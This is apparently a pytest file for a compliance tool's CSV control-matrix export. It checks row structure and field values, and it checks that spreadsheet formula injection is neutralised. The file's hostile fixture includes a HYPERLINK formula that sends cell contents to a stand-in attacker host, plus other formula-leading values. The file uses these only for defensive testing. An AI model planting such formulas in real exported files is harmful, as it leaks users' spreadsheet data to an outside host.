"""The CSV control matrix: round-trips through the csv module, opens cleanly in spreadsheets."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

from click.testing import CliRunner
from ruamel.yaml import YAML

from soccheck.cli.main import cli
from soccheck.readiness.csv_matrix import COLUMNS
from tests.conftest import EXAMPLES, TODAY, dedent

TEST_COLUMNS = COLUMNS[COLUMNS.index("Test ID") : COLUMNS.index("Result") + 1]


def matrix(root: Path, *args: str) -> tuple[str, list[dict[str, str]]]:
    """The CSV as written to standard output (bytes, before any newline translation)."""
    result = CliRunner().invoke(
        cli, ["report", str(root), "--format", "csv", "--today", TODAY, *args]
    )
    assert result.exit_code == 0, result.stderr
    raw = result.stdout_bytes.decode("utf-8")
    assert raw.startswith("\ufeff"), "Excel needs the byte-order mark to read UTF-8"
    reader = csv.DictReader(io.StringIO(raw[1:], newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return raw, list(reader)


def expected_rows(root: Path) -> list[tuple[str, str]]:
    """(control ID, test ID) pairs read straight from the YAML, in natural ID order."""
    yaml = YAML(typ="safe")
    pairs = []
    for path in sorted((root / "controls").glob("*.yaml")):
        for control in yaml.load(path.read_text(encoding="utf-8"))["controls"]:
            tests = control.get("tests") or [{"id": ""}]
            pairs += [(control["id"], test["id"]) for test in tests]
    return sorted(pairs, key=lambda p: (p[0].split("-")[0], int(p[0].split("-")[1]), p[1]))


def test_saas_matrix_has_one_row_per_control_and_test() -> None:
    raw, rows = matrix(EXAMPLES / "saas")
    assert [(r["Control ID"], r["Test ID"]) for r in rows] == expected_rows(EXAMPLES / "saas")
    assert len(rows) == 20
    # RFC 4180: every record (the header and 20 rows) ends with CRLF; line breaks inside a
    # quoted cell (one evidence item per line) are bare LF, as Excel writes them.
    assert raw.count("\r\n") == 21
    multi = next(r for r in rows if "\n" in r["Evidence"])
    assert multi["Control ID"] == "AC-04"  # a review each quarter
    assert len(multi["Evidence"].split("\n")) == 4
    ac01 = rows[0]
    assert ac01 == {
        "Control ID": "AC-01",
        "Control title": "Single sign-on with enforced multi-factor authentication",
        "Description": ac01["Description"],
        "Owner": "Security and Compliance",
        "Frequency": "continuous",
        "Nature": "preventive",
        "Automation": "automated",
        "Key control": "yes",
        "Criteria": "CC6.1; CC6.6",
        "Objectives": "",
        "Status": "soc2-2026: tested",
        "Test ID": "T-AC-01-2026",
        "Test kind": "operating",
        "Method": "reperformance",
        "Procedure": ac01["Procedure"],
        "Performed on": "2026-10-20",
        "Performed by": "Nora Quinn",
        "Test report": "all",
        "Counts for": "soc2-2026",
        "Population": "1",
        "Sample size": "1",
        "Exceptions": "0",
        "Result": "pass",
        # The audit-trail columns: what AC-01's test records of it, the rest empty.
        "Covers": "2026-01-01 to 2026-09-30",
        "Phase": "",
        "Population source": "Okta authentication policy configuration; one automated control, "
        "tested once.",
        "Reviewed by": "",
        "Reviewed on": "",
        "Retest of": "",
        "Deviations": "",
        "Evidence": "evidence/access/okta-policy-export-2026-08.txt (Export of the Okta global "
        "session and authentication policies.)",
        "Evidence timeline": "soc2-2026, period 2026-01-01 to 2026-09-30; evidence: 1 undated\n"
        "  undated: evidence/access/okta-policy-export-2026-08.txt\n"
        "  T-AC-01-2026 sampled 2026-01-01 to 2026-09-30",
        # saas names layers and systems (issue 16), but scopes no control to one report,
        # dates none and has no inclusive vendor, CUECs naming controls or changes.
        "Layer": "itgc",
        "Systems": "platform (Skyline Insights Platform (production))\n"
        "workplace (Corporate identity, HR and devices)",
        "Effective": "",
        "Scoped to": "all",
        "Subservice organization": "",
        "CUECs": "",
        "Changes": "",
        "Subservice report status": "",
    }
    assert ac01["Description"].startswith("All workforce access to the AWS console, Kubernetes,")
    assert ac01["Procedure"].startswith("Inspected the Okta authentication policy")


def test_fintech_matrix_lists_criteria_and_objectives() -> None:
    _, rows = matrix(EXAMPLES / "fintech")
    assert [(r["Control ID"], r["Test ID"]) for r in rows] == expected_rows(EXAMPLES / "fintech")
    assert len(rows) == 40
    ac01 = next(r for r in rows if r["Control ID"] == "AC-01")
    assert (ac01["Criteria"], ac01["Objectives"]) == ("CC6.1; CC6.6", "CO-01")
    assert ac01["Status"] == "soc1-2026: tested; soc2-2026: tested"
    assert ac01["Counts for"] == "soc1-2026; soc2-2026"
    cli01 = next(r for r in rows if r["Control ID"] == "CLI-01")
    assert (cli01["Criteria"], cli01["Objectives"], cli01["Status"]) == (
        "",
        "CO-04",
        "soc1-2026: tested",
    )
    _, soc1 = matrix(EXAMPLES / "fintech", "--report", "soc1-2026")
    assert len(soc1) == 25
    assert {r["Control ID"] for r in soc1} < {r["Control ID"] for r in rows}


HOSTILE = dedent(
    """
    controls:
      - id: EV-01
        title: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Click\\")"
        description: "+1+1 is what a spreadsheet would compute"
        owner: alice
        criteria: [CC7.2]
        evidence:
          - url: "@SUM(1,2)"
        tests:
          - id: T-EV-01-A
            method: inspection
            procedure: "-2 items, \\"quoted\\", with commas; and\\na second line"
            performed_on: 2026-03-02
            performed_by: tom
            result: pass
            population: 3
          - id: T-EV-01-B
            method: observation
            procedure: "\\tTab-led, then ünïcödé — and a final CR\\r"
            performed_on: 2026-04-02
            performed_by: tom
            result: exceptions
            exceptions: 1
      - id: EV-02
        title: Untested control
        description: Nobody has tested this yet.
        owner: alice
        criteria: [CC7.3]
    """
)


def test_cells_round_trip_and_formulas_are_neutralised(program: Callable[..., Path]) -> None:
    _, rows = matrix(program(controls={"ev.yaml": HOSTILE}))
    ev = [r for r in rows if r["Control ID"].startswith("EV-")]
    assert [(r["Control ID"], r["Test ID"]) for r in ev] == [
        ("EV-01", "T-EV-01-A"),
        ("EV-01", "T-EV-01-B"),
        ("EV-02", ""),
    ]
    first, second, untested = ev
    assert first["Control title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert first["Description"] == "'+1+1 is what a spreadsheet would compute"
    assert first["Evidence"] == "'@SUM(1,2)"
    assert first["Procedure"] == '\'-2 items, "quoted", with commas; and\na second line'
    assert second["Procedure"] == "'\tTab-led, then ünïcödé — and a final CR\r"
    assert (first["Population"], first["Sample size"], first["Exceptions"]) == ("3", "", "")
    assert (second["Result"], second["Exceptions"]) == ("exceptions", "1")
    assert all(untested[c] == "" for c in TEST_COLUMNS)
    assert untested["Status"] == "soc2-2026: untested"
    # No cell anywhere starts with a formula character.
    assert not [
        (r["Control ID"], k, v)
        for r in rows
        for k, v in r.items()
        if v[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]
